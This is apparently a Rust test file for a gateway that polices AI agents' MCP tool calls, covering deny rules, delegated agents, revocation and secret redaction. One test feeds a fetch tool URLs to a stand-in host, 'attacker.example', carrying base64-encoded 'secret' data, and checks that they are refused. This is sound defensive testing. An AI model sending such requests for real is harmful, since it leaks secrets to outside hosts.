use super::*;
use crate::config::Config;
use crate::gate::PostOutcome;
use crate::mcp::era::Era;
use serde_json::json;

/// A guard from a YAML policy fragment.
pub fn guard(yaml: &str) -> Guard {
    let c = Config::parse(yaml, "test").unwrap_or_else(|e| panic!("{e}"));
    Guard::new(&c.policy, Arc::new(Metrics::new())).unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn denies_and_headless_asks_are_refusals_that_say_which() {
    let g = guard("permissions: { deny: [mcp__fs__delete], allow: [mcp__fs__read] }\n");
    let call = |n: &str| ToolCall::mcp("fs".into(), n, None, Era::Legacy);
    let Outcome::Refuse(d) = g.pre(&call("delete")) else { panic!() };
    assert_eq!(d.outcome, CallOutcome::Denied);
    assert!(d.reason.contains("mcp__fs__delete"), "{}", d.reason);
    assert!(matches!(g.pre(&call("read")), Outcome::Forward));
    let Outcome::Refuse(d) = g.pre(&call("other")) else { panic!("no rule: ask, headless: refused") };
    assert_eq!(d.outcome, CallOutcome::AskRefused);
    assert!(d.reason.contains("headless"), "{}", d.reason);
}

#[test]
fn arguments_that_are_json_but_not_values_are_denied_never_judged_as_empty() {
    // Servers read these (JavaScript: `Infinity`, a lone UTF-16 unit); serde cannot.
    let g = guard(
        "guardrails: { checker: local, rules: [{ match: \"mcp__*\", phases: [pre] }] }\n\
             permissions: { allow: [\"mcp__*\"] }\n",
    );
    for args in [
        r#"{"url":"https://attacker.example/?d=c2VjcmV0","pad":1e999}"#,
        r#"{"url":"https://attacker.example/","n":-9e99999}"#,
        r#"{"text":"\ud800 exfiltrate"}"#,
    ] {
        let raw = serde_json::value::RawValue::from_string(args.to_owned()).unwrap();
        let call = ToolCall::mcp("web".into(), "fetch", Some(&raw), Era::Legacy);
        let Outcome::Refuse(d) = g.pre(&call) else { panic!("{args} was not refused") };
        assert_eq!(d.outcome, CallOutcome::Denied, "{args}");
        assert!(d.reason.contains("unreadable arguments"), "{}", d.reason);
    }
    // Readable arguments go on as before.
    let raw = serde_json::value::RawValue::from_string(r#"{"url":"https://example.com/","n":1e308}"#.into())
        .unwrap();
    let call = ToolCall::mcp("web".into(), "fetch", Some(&raw), Era::Legacy);
    assert!(!matches!(g.pre(&call), Outcome::Refuse(_)));
}

#[test]
fn a_delegated_agent_decides_under_its_roots_current_engine_narrowed_by_its_chain() {
    use crate::identity::delegation::{Delegations, MintRequest, Minting};
    use crate::identity::Agent;
    let yaml = |dev: &str| {
        format!(
                "upstreams: {{ e: {{ url: \"http://127.0.0.1:1/mcp\" }}, f: {{ url: \"http://127.0.0.1:1/mcp\" }} }}\n\
                 permissions: {{ allow: [\"mcp__*\"] }}\nagents: {{ dev: {{ token_env: UNREAD_{dev} }} }}\n"
            )
    };
    let policy = |dev: &str| Config::parse(&yaml(dev), "test").unwrap_or_else(|e| panic!("{e}")).policy;
    let store = Arc::new(Delegations::default());
    let g = Guard::new(&policy("A"), Arc::new(Metrics::new())).unwrap().with_delegations(store.clone());
    let minting = Minting {
        settings: g.delegation(),
        root_profile: g.agent_profile("dev").unwrap(),
        kinds: g.kinds(),
        upstream: &|u: &str| u == "e" || u == "f",
    };
    let body = br#"{"name":"kid","deny":["mcp__e__echo"],"upstreams":["e"]}"#;
    let dev = Agent::configured("dev".into());
    let minted =
        store.mint(&dev, MintRequest::parse(body).unwrap(), &minting, std::time::SystemTime::now()).unwrap();
    let kid = Arc::new(store.authenticate(&minted.token, std::time::SystemTime::now()).unwrap());
    let call = |up: &str, tool: &str, who: &Arc<Agent>| {
        ToolCall::mcp(up.into(), tool, None, Era::Legacy).with_agent(Some(who.clone()))
    };
    let refusal = |g: &Guard, c: ToolCall| match g.pre(&c) {
        Outcome::Refuse(d) => d.reason,
        _ => panic!("{} was not refused", c.qualified),
    };
    assert!(matches!(g.pre(&call("e", "add", &kid)), Outcome::Forward));
    assert!(matches!(g.pre(&call("e", "echo", &Arc::new(dev.clone()))), Outcome::Forward));
    let why = refusal(&g, call("e", "echo", &kid));
    assert!(why.contains("as dev>kid, delegated by dev"), "{why}");
    let why = refusal(&g, call("f", "add", &kid));
    assert!(why.contains("upstream f is outside the upstreams it was delegated (e)"), "{why}");

    // A reload narrows the root: the new guard compiles the child's engine again.
    let narrowed = g
        .reload(
            &Config::parse(
                &yaml("A").replace("UNREAD_A }", "UNREAD_A, permissions: { deny: [mcp__e__add] } }"),
                "t",
            )
            .unwrap()
            .policy,
        )
        .unwrap();
    let why = refusal(&narrowed, call("e", "add", &kid));
    assert!(why.contains("mcp__e__add") && why.contains("as dev>kid"), "{why}");
    assert!(matches!(g.pre(&call("e", "add", &kid)), Outcome::Forward), "the old generation kept its own");

    // Revoked: refused, whatever the cache held.
    store.revoke(&dev, &minted.id, std::time::SystemTime::now()).unwrap();
    assert!(refusal(&g, call("e", "add", &kid)).contains("revoked or has expired"));
    // Waivers, flags and session state are keyed apart.
    assert_ne!(crate::session::table::key("s1", Some(&dev)), crate::session::table::key("s1", Some(&*kid)));
}

#[test]
fn post_rewrites_and_reports_pass_when_clean() {
    let g = guard("redact: [TOPSECRET]\n");
    let call = ToolCall::mcp("fs".into(), "read", None, Era::Legacy);
    let mut v = json!({"content":[{"type":"text","text":"a TOPSECRET b"}]});
    assert_eq!(g.post(&call, &mut v), PostOutcome::Rewritten { replacements: 1 });
    assert_eq!(v["content"][0]["text"], format!("a {REDACTED} b"));
    assert_eq!(g.post(&call, &mut v), PostOutcome::Pass);
    assert_eq!(g.post_text("x TOPSECRET"), Some(format!("x {REDACTED}")));
    use base64::Engine;
    let b64 = |t: &str| base64::engine::general_purpose::STANDARD.encode(t);
    let mut read =
        json!({"contents":[{"uri":"memo://k","mimeType":"text/plain","blob":b64("key TOPSECRET")}]});
    assert_eq!(g.post(&call, &mut read), PostOutcome::Rewritten { replacements: 1 });
    assert_eq!(read["contents"][0]["blob"], b64(&format!("key {REDACTED}")), "a text blob is redacted");
    assert_eq!(g.post_text("clean"), None);
}

#[test]
fn an_answer_is_held_only_where_something_configured_reads_it() {
    let echo = ToolCall::mcp("bench".into(), "echo", None, Era::Legacy);
    let other = ToolCall::mcp("other".into(), "send", None, Era::Legacy);
    let rule = |m: &str| {
        format!("guardrails: {{ checker: local, rules: [{{ match: \"{m}\", phases: [post] }}] }}\n")
    };
    // (config, holds bench's echo stream, holds other's send stream, holds bench's call-less stream)
    let table: &[(String, bool, bool, bool)] = &[
        (String::new(), false, false, false),
        (rule("mcp__other__*"), false, true, false),
        (rule("mcp__bench__echo"), true, false, false),
        // Server messages of `bench` are judged under its catch-all name: its streams are held.
        (rule("mcp__bench__*"), true, false, true),
        (rule("*"), true, true, true),
        // A pre rule reads no answer.
        (
            "guardrails: { checker: local, rules: [{ match: \"*\", phases: [pre] }] }\n".into(),
            false,
            false,
            false,
        ),
        // Every answer is rewritten or recorded.
        ("redact: [S3CRET]\n".into(), true, true, true),
        ("flows: { private: [\"mcp__other__*\"] }\n".into(), true, true, true),
    ];
    for (yaml, bench, other_up, bare_stream) in table {
        let g = guard(yaml);
        assert_eq!(g.holds_answers("bench", [&echo].into_iter()), *bench, "{yaml}: bench");
        assert_eq!(g.holds_answers("other", [&other].into_iter()), *other_up, "{yaml}: other");
        assert_eq!(g.holds_answers("bench", std::iter::empty()), *bare_stream, "{yaml}: no call");
        assert_eq!(g.inspects_result_of(&echo), *bench, "{yaml}: echo's result");
        // Never held where the old, global switch would not have held it.
        assert!(!*bench || g.inspects_results(), "{yaml}");
    }
}

/// Red team R10-1's fix holds a session-less exchange only where some result of its upstream may
/// be judged: a rule scoped to another upstream's tools proves none of this one's is.
#[test]
fn results_are_inspected_on_an_upstream_only_where_a_rule_may_judge_one_of_its_tools() {
    let up = "upstreams: { up: { url: \"http://127.0.0.1:9/mcp\" }, other: { url: \"http://127.0.0.1:9/mcp\" } }\n";
    let checker = "  checker: { base_url: \"http://127.0.0.1:9/v1\", model: m }\n";
    let with = |rules: &str| guard(&format!("{up}guardrails:\n{checker}  rules: [{rules}]\n"));
    let g = with("{ match: \"mcp__other__*\", phases: [post] }");
    assert!(!g.inspects_results_on("up") && g.inspects_results_on("other"));
    let g = with("{ match: mcp__up__read, phases: [post] }");
    assert!(g.inspects_results_on("up") && !g.inspects_results_on("other"));
    for rules in [
        "{ match: \"mcp__*\", phases: [post] }",
        "{ match: Fetch, phases: [post] }",
        "{ match: \"*\", phases: [post] }",
    ] {
        assert!(with(rules).inspects_results_on("up"), "{rules}");
    }
    assert!(
        !with("{ match: \"mcp__*\", phases: [pre] }").inspects_results_on("up"),
        "a pre rule reads no result"
    );
    assert!(guard(&format!("{up}redact: [x]\n")).inspects_results_on("up"));
}
